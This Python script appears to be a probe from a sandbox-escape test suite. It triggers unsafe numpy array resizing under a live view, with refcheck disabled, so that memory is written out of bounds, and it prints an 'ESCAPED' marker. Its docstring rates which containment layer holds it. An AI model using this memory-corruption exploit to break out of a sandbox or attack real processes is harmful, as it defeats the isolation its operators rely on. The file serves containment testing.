"""Let numpy write beyond an array that was resized under a view.

Held by: nothing
Worth: the process itself: what it may ask of the kernel is what stage 2 lets through, and the mounts hold the rest.
"""
import numpy as np

words = np.arange(1 << 16, dtype="u8")
view = memoryview(words)
words = None
array = np.ndarray(4, "u8")
other = array[:]
resize = np.ndarray.resize
for cell in getattr(resize, "__closure__", None) or ():
    if type(cell.cell_contents) is type(np.ndarray.copy):
        resize = cell.cell_contents
resize(array, 1 << 20, refcheck=False)
print("ESCAPED:memory_of_arrays", array.size != other.size)
